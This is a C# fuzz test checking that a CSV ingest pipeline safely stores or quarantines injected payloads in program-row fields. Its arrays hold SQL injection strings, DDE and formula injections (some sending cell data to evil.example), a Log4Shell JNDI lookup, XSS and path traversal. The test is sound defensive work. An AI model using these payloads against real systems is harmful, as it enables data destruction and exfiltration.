using FsCheck;
using FsCheck.Fluent;
using Outcomes.Ingest.Loading;
using Outcomes.Ingest.Tests.Loading;
using Outcomes.TestSupport;
using Xunit;
using Xunit.Abstractions;

namespace Outcomes.Ingest.Tests.Fuzz;

/// <summary>
/// SQL and spreadsheet-formula payloads in the fields of valid programs rows (mostly the free-text name): each
/// either loads as inert text, verbatim, or is quarantined; the database keeps every table and every row it had,
/// and no quarantine reason repeats the payload.
/// </summary>
[Trait(TestCategory.Name, TestCategory.Slow)]
public sealed class PayloadFuzzTests(TestDatabase database, ITestOutputHelper output) : IClassFixture<TestDatabase>
{
    private static readonly string[] SqlPayloads =
    [
        "'; drop table episode; --",
        "Robert'); DROP TABLE program;--",
        "1' OR '1'='1",
        "x'); delete from ingest_batch; --",
        "$$; drop schema public cascade; $$",
        "'; copy program to '/tmp/programs'; --",
        "\\'; select pg_sleep(30); --",
        "' union select facility_id from facility --",
        "'||(select current_user)||'",
        "E'\\x00'; truncate patient; --",
        "); drop table ingest_quarantine cascade; --",
    ];

    private static readonly string[] FormulaPayloads =
    [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click here\")",
        "=1+2",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=cmd|' /C notepad'!'A1'",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
        "\t=1+2",
        "\r=1+2",
        " =IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    ];

    private static readonly string[] OtherPayloads =
    [
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "%s%s%s%n",
        "../../etc/passwd",
        "\u202Eevil\u202C program",
        "Adult IOP \"evenings\", room 4",
    ];

    private static readonly string[] CoreTables =
        ["facility", "program", "patient", "episode", "attendance_session", "family_contact", "drug_screen", "relapse_event", "follow_up", "ingest_batch", "ingest_quarantine"];

    private readonly FuzzHarness _harness = new(database);

    [Fact]
    public async Task Sql_and_formula_payloads_load_as_inert_text_or_are_quarantined_and_no_reason_repeats_them()
    {
        var loadedVerbatim = 0;
        var quarantined = 0;
        await FuzzCases.CheckAsync(output, "SQL and formula payloads in text fields", FuzzCases.Count(300), Cases.ToArbitrary(), c =>
        {
            using var drop = new DropFolder();
            var rows = c.Rows.Select(r => ProgramRows.Own(r, drop.Facility)).ToArray();
            foreach (var (row, field, payload) in c.Payloads)
            {
                rows[row % rows.Length][field] = payload;
            }

            var (bytes, lines) = CsvText.Write(ProgramReference.Header, rows, crlf: false);
            var verdict = ProgramRows.Judge([.. rows.Select((r, i) => (lines[i], (IReadOnlyList<string>)r))]);
            var before = Counts();

            var file = _harness.Ingest(drop, "programs.csv", bytes);

            Assert.Equal(FileStatus.Committed, file.Result.Status);
            var loaded = _harness.ProgramsOf(file.Result.BatchId);
            ProgramRows.AssertMatches(verdict, file, loaded);
            var after = Counts();
            Assert.Equal(CoreTables.Length, after.Tables);
            Assert.Equal(before.Programs + loaded.Count, after.Programs);
            Assert.Equal(before.Batches + 1, after.Batches);
            Assert.Equal(before.Quarantined + file.Quarantine.Count, after.Quarantined);
            foreach (var (_, _, payload) in c.Payloads)
            {
                Assert.All(file.Quarantine, q => Assert.DoesNotContain(payload.Trim(), q.Reason, StringComparison.Ordinal));
                if (loaded.Any(p => p.Name == payload))
                {
                    loadedVerbatim++;
                }
            }

            quarantined += file.Quarantine.Count;
        });
        output.WriteLine($"{loadedVerbatim} payloads loaded verbatim as names, {quarantined} rows quarantined");
    }

    private (long Tables, long Programs, long Batches, long Quarantined) Counts() =>
        Assert.Single(database.QueryAsync<(long, long, long, long)>(
                """
                select (select count(*) from pg_tables where schemaname = 'public' and tablename = any(@Tables)),
                       (select count(*) from program), (select count(*) from ingest_batch), (select count(*) from ingest_quarantine)
                """,
                new { Tables = CoreTables })
            .GetAwaiter().GetResult());

    private static Gen<PayloadCase> Cases =>
        from rows in ProgramRows.ValidFile(5)
        from count in Gen.Choose(1, 3)
        from payloads in (
            from row in Gen.Choose(0, 7)
            from column in Gen.Frequency((7, Gen.Constant(2)), (3, Gen.Choose(0, 7)))
            from payload in Gen.Elements([.. SqlPayloads, .. FormulaPayloads, .. OtherPayloads])
            select (row, column, payload)).ArrayOf(count)
        select new PayloadCase(rows, payloads);

    internal sealed record PayloadCase(string[][] Rows, (int Row, int Field, string Payload)[] Payloads)
    {
        public override string ToString() =>
            string.Join(Environment.NewLine, Rows.Select(r => "  " + string.Join(",", r))) + Environment.NewLine +
            string.Join(Environment.NewLine, Payloads.Select(p => $"  row {p.Row} field {p.Field}: {p.Payload}"));
    }
}
